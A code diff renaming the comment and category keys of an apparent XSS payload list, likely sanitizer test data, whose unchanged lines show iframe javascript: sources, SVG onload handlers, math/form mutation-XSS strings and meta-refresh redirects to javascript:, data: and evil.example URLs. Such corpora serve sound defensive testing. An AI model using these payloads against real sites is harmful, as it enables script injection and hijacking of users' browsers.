@@ -1,4 +1,4 @@
-/** Attacks that embed another document or another language. */
+/** Attacks with embedded documents, SVG, MathML and document-level markup. */
 export const documents = {
   frames: [
     '<iframe src=javascript:alert(1)></iframe>',
@@ -48,7 +48,7 @@ export const documents = {
     '<noembed><script>alert(1)</script></noembed>',
     '<noframes><script>alert(1)</script></noframes>',
   ],
-  'vector graphics and formulas': [
+  'SVG and MathML': [
     '<svg onload=alert(1)>',
     '<svg/onload=alert(1)>',
     '<svg\nonload=alert(1)>',
@@ -101,7 +101,7 @@ export const documents = {
     '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
     '<math></p><textarea><mi><style></textarea></mi></math><p title="</style></textarea><img src=x onerror=alert(1)>">',
   ],
-  'document furniture': [
+  'document-level markup': [
     '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
     '<meta http-equiv=refresh content="0;url=https://evil.example">',
     '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
